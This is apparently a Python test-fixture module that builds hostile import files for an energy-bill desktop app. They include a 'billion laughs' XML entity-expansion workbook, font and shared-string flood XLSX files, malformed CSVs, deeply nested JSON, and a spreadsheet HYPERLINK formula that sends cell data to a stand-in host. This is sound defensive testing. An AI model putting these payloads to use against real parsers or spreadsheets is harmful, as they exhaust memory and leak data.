"""Hostile input files of issue 16 (and variations), built small and on the fly.

Each builder writes one file into a folder and returns its path. The files are what an attacker
or an unlucky user hands the app: workbooks that lie about their size, a sheet whose one shared
string fills thousands of cells, CSVs in mixed encodings or with an unclosed quote, JSON with a
formula as a unit, 9e14 kWh, a 4,000-character company name, an unpaired surrogate, or the
app's own export with a 19 MB scan.
"""

from __future__ import annotations

import base64
import io
import json
import os
import re
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

from openpyxl import Workbook

from ecocheck_desktop.exchange.demo import demo_project
from ecocheck_desktop.exchange.json_io import project_to_json

HEADER = ["month", "energy", "quantity", "unit", "note"]
ROWS = [["2025-04", "電気", 1000, "kWh", "四月"], ["2025-05", "都市ガス", 300, "m3", "五月"]]


def _workbook_bytes(rows: list[list[Any]]) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _patch_sheet(data: bytes, change: Callable[[bytes], bytes]) -> bytes:
    """The workbook with its first sheet's XML changed (everything else copied)."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for info in source.infolist():
            content = source.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                content = change(content)
            target.writestr(info.filename, content, compress_type=zipfile.ZIP_DEFLATED)
    return out.getvalue()


def _patch_parts(
    data: bytes, changes: dict[str, Callable[[bytes], bytes]], extra: dict[str, bytes]
) -> bytes:
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for info in source.infolist():
            content = source.read(info.filename)
            if info.filename in changes:
                content = changes[info.filename](content)
            target.writestr(info.filename, content)
        for name, content in extra.items():
            target.writestr(name, content)
    return out.getvalue()


def xlsx_font_flood(folder: Path, fonts: int = 1_000_000) -> Path:
    """A ~150 KB workbook whose styles declare a million fonts (1.7 GB of openpyxl objects)."""
    font = b'<font><name val="Calibri"/><sz val="11"/></font>'
    change = {
        "xl/styles.xml": lambda xml: xml.replace(
            b'<fonts count="1">', b'<fonts count="1">' + font * fonts
        )
    }
    path = folder / "font_flood.xlsx"
    path.write_bytes(_patch_parts(_workbook_bytes([HEADER, *ROWS]), change, {}))
    return path


def xlsx_shared_string_count_flood(folder: Path, strings: int = 3_000_000) -> Path:
    """Three million one-letter shared strings (a list openpyxl builds before any row)."""
    table = b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    table += b"<si><t>a</t></si>" * strings + b"</sst>"
    override = (
        b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
        b'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>'
    )
    relation = (
        b'<Relationship Id="rIdSS" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>'
    )
    changes = {
        "[Content_Types].xml": lambda xml: xml.replace(b"</Types>", override),
        "xl/_rels/workbook.xml.rels": lambda xml: xml.replace(b"</Relationships>", relation),
    }
    path = folder / "shared_string_count_flood.xlsx"
    data = _patch_parts(_workbook_bytes([HEADER, *ROWS]), changes, {"xl/sharedStrings.xml": table})
    path.write_bytes(data)
    return path


def xlsx_huge_dimension(folder: Path) -> Path:
    """A few-KB workbook declaring A1:XFD1048576 (17 billion cells) over two bill lines."""
    data = _patch_sheet(
        _workbook_bytes([HEADER, *ROWS]),
        lambda xml: re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:XFD1048576"', xml),
    )
    path = folder / "huge_dimension.xlsx"
    path.write_bytes(data)
    return path


def xlsx_far_cell(folder: Path) -> Path:
    """Two bill lines plus one cell at the very last row and column of a sheet."""

    def change(xml: bytes) -> bytes:
        far = b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
        xml = re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:XFD1048576"', xml)
        return xml.replace(b"</sheetData>", far + b"</sheetData>")

    path = folder / "far_cell.xlsx"
    path.write_bytes(_patch_sheet(_workbook_bytes([HEADER, *ROWS]), change))
    return path


def xlsx_many_cells(folder: Path, cells: int = 600_000) -> Path:
    """One row of ``cells`` numeric cells: a small zip, a long XML row."""

    def change(xml: bytes) -> bytes:
        row = b'<row r="9">' + b"<c><v>1</v></c>" * cells + b"</row>"
        return xml.replace(b"</sheetData>", row + b"</sheetData>")

    path = folder / "many_cells.xlsx"
    path.write_bytes(_patch_sheet(_workbook_bytes([HEADER, *ROWS]), change))
    return path


def xlsx_wide_row(folder: Path, cells: int = 100_000) -> Path:
    """One row of 100,000 inline strings of 120 characters (openpyxl holds a row at once)."""
    cell = b'<c t="inlineStr"><is><t>' + b"x" * 120 + b"</t></is></c>"

    def change(xml: bytes) -> bytes:
        return xml.replace(b"</sheetData>", b'<row r="9">' + cell * cells + b"</row></sheetData>")

    path = folder / "wide_row.xlsx"
    path.write_bytes(_patch_sheet(_workbook_bytes([HEADER, *ROWS]), change))
    return path


def xlsx_entity_expansion(folder: Path) -> Path:
    """A "billion laughs" DTD in the sheet XML."""
    entities = b'<!ENTITY lol "lollollollollollollollollollol">' + b"".join(
        b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
        for i in range(1, 10)
    )
    head = b'<?xml version="1.0"?><!DOCTYPE lolz [' + entities + b"]>"

    def change(xml: bytes) -> bytes:
        body = xml.split(b"?>", 1)[1] if xml.startswith(b"<?xml") else xml
        laugh = b'<row r="9"><c r="E9" t="inlineStr"><is><t>&lol9;</t></is></c></row>'
        return head + body.replace(b"</sheetData>", laugh + b"</sheetData>")

    path = folder / "entity_expansion.xlsx"
    path.write_bytes(_patch_sheet(_workbook_bytes([HEADER, *ROWS]), change))
    return path


def xlsx_shared_string_flood(folder: Path, rows: int = 3000, length: int = 2000) -> Path:
    """One 2,000-character note shared by every one of 3,000 bill lines (a ~50 KB file that
    would become a project of several MB of text per import)."""
    note = ("長い備考" * (length // 4 + 1))[:length]
    table = [HEADER] + [
        [f"{2000 + i // 12}-{i % 12 + 1:02d}", "電気", 100, "kWh", note] for i in range(rows)
    ]
    path = folder / "shared_string_flood.xlsx"
    path.write_bytes(_workbook_bytes(table))
    return path


def csv_utf8_with_one_sjis_row(folder: Path) -> Path:
    path = folder / "mixed_utf8_sjis.csv"
    lines = [
        b"month,energy,quantity,unit,note\r\n",
        "2025-04,電気,1000,kWh,四月分\r\n".encode(),
        "2025-05,電気,1100,kWh,五月分\r\n".encode("cp932"),
        "2025-06,電気,1200,kWh,六月分\r\n".encode(),
    ]
    path.write_bytes(b"".join(lines))
    return path


def csv_sjis_with_one_utf8_row(folder: Path) -> Path:
    path = folder / "mixed_sjis_utf8.csv"
    lines = [
        "month,energy,quantity,unit,note\r\n".encode("cp932"),
        "2025-04,電気,1000,kWh,四月分\r\n".encode("cp932"),
        "2025-05,電気,1100,kWh,五月分\r\n".encode("cp932"),
        "2025-06,電気,1200,kWh,六月分\r\n".encode(),
    ]
    path.write_bytes(b"".join(lines))
    return path


def csv_iso2022jp(folder: Path) -> Path:
    path = folder / "iso2022jp.csv"
    text = "年月,エネルギー,使用量,単位\r\n2025-04,電気,1000,kWh\r\n2025-05,灯油,200,L\r\n"
    path.write_bytes(text.encode("iso2022_jp"))
    return path


def csv_unclosed_quote(folder: Path) -> Path:
    path = folder / "unclosed_quote.csv"
    path.write_text(
        "month,energy,quantity,unit,note\n"
        '2025-04,電気,1000,kWh,"四月分\n'
        "2025-05,電気,1100,kWh,五月分\n"
        "2025-06,電気,1200,kWh,六月分\n",
        encoding="utf-8",
    )
    return path


def csv_quote_closed_lines_later(folder: Path) -> Path:
    """A quote that closes three lines later: valid CSV, but it swallows two bill lines."""
    path = folder / "late_quote.csv"
    path.write_text(
        "month,energy,quantity,unit,note\n"
        '2025-04,電気,1000,kWh,"四月分\n'
        "2025-05,電気,1100,kWh,五月分\n"
        '2025-06,電気,1200,kWh,六月分"\n',
        encoding="utf-8",
    )
    return path


def csv_implausible_quantity(folder: Path) -> Path:
    path = folder / "implausible.csv"
    path.write_text("month,energy,quantity,unit\n2025-04,電気,900000000000,kWh\n", encoding="utf-8")
    return path


def _document(**changes: Any) -> dict[str, Any]:
    document = project_to_json(demo_project())
    for key, value in changes.items():
        if key == "company_name":
            document["company"]["name"] = value
        elif key.startswith("record0_"):
            document["records"][0][key.removeprefix("record0_")] = value
    return document


def _write_json(folder: Path, name: str, document: Any, *, ensure_ascii: bool = False) -> Path:
    path = folder / name
    path.write_text(json.dumps(document, ensure_ascii=ensure_ascii), encoding="utf-8")
    return path


def json_formula_unit(folder: Path) -> Path:
    unit = '=HYPERLINK("http://example.invalid/?"&A1,"click")'
    return _write_json(folder, "formula_unit.json", _document(record0_unit=unit))


def json_wrong_unit(folder: Path) -> Path:
    # records[0] of the demo is electricity: litres do not fit it.
    return _write_json(folder, "wrong_unit.json", _document(record0_unit="L"))


def json_implausible_quantity(folder: Path) -> Path:
    return _write_json(folder, "9e14_kwh.json", _document(record0_quantity="900000000000000"))


def json_long_company_name(folder: Path, length: int = 4000) -> Path:
    name = ("株式会社長い名前" * (length // 8 + 1))[:length]
    return _write_json(folder, "long_name.json", _document(company_name=name))


def json_unpaired_surrogate(folder: Path) -> Path:
    # Only expressible as a JSON escape: "\ud800" without its low half.
    return _write_json(
        folder, "surrogate.json", _document(company_name="株式会社\ud800"), ensure_ascii=True
    )


def json_many_containers(folder: Path, megabytes: float = 9.0) -> Path:
    """Just under 10 MB of empty objects: millions of Python dicts if parsed naively."""
    count = int(megabytes * 1024 * 1024 / 3)
    path = folder / "many_objects.json"
    with path.open("w", encoding="utf-8") as stream:
        stream.write('{"format": "ecocheck-project", "format_version": 1, "checklist": {"x": [')
        stream.write(",".join(["{}"] * count))
        stream.write("]}}")
    return path


def json_deep(folder: Path, depth: int = 200_000) -> Path:
    path = folder / "deep.json"
    path.write_text("[" * depth + "]" * depth, encoding="utf-8")
    return path


def json_long_string(folder: Path, megabytes: float = 9.0) -> Path:
    """One 9 MB string of backslash escapes in a note (the worst case for a string regex)."""
    document = _document(record0_note="\\" * int(megabytes * 1024 * 1024 / 2))
    return _write_json(folder, "long_string.json", document)


def pdf_bytes(size: int) -> bytes:
    body = os.urandom(max(0, size - 32))
    return b"%PDF-1.4\n" + body + b"\n%%EOF\n"


def json_own_export_with_scan(folder: Path, scan_mb: float = 19.0) -> Path:
    """The app's own JSON export of the demo with one scan of ``scan_mb`` MB attached."""
    data = pdf_bytes(int(scan_mb * 1024 * 1024))
    document = project_to_json(demo_project(), attachments=True, evidence=[])
    document["attachments"] = [
        {
            "filename": "bill-2025-04.pdf",
            "media_type": "application/pdf",
            "month": "2025-04",
            "record_index": 0,
            "added_at": "2025-05-01T00:00:00+00:00",
            "added_by": "test",
            "data_base64": base64.b64encode(data).decode("ascii"),
        }
    ]
    return _write_json(folder, "own_export_with_scan.json", document)


# name -> builder, for the CLI suite: every one must give exit 0 or 2, never 1.
BILL_FILES: dict[str, Callable[[Path], Path]] = {
    "xlsx_huge_dimension": xlsx_huge_dimension,
    "xlsx_far_cell": xlsx_far_cell,
    "xlsx_many_cells": xlsx_many_cells,
    "xlsx_shared_string_flood": xlsx_shared_string_flood,
    "xlsx_font_flood": xlsx_font_flood,
    "xlsx_wide_row": xlsx_wide_row,
    "xlsx_entity_expansion": xlsx_entity_expansion,
    "xlsx_shared_string_count_flood": xlsx_shared_string_count_flood,
    "csv_utf8_with_one_sjis_row": csv_utf8_with_one_sjis_row,
    "csv_sjis_with_one_utf8_row": csv_sjis_with_one_utf8_row,
    "csv_iso2022jp": csv_iso2022jp,
    "csv_unclosed_quote": csv_unclosed_quote,
    "csv_quote_closed_lines_later": csv_quote_closed_lines_later,
    "csv_implausible_quantity": csv_implausible_quantity,
}
JSON_FILES: dict[str, Callable[[Path], Path]] = {
    "json_formula_unit": json_formula_unit,
    "json_wrong_unit": json_wrong_unit,
    "json_implausible_quantity": json_implausible_quantity,
    "json_long_company_name": json_long_company_name,
    "json_unpaired_surrogate": json_unpaired_surrogate,
    "json_many_containers": json_many_containers,
    "json_deep": json_deep,
    "json_long_string": json_long_string,
}
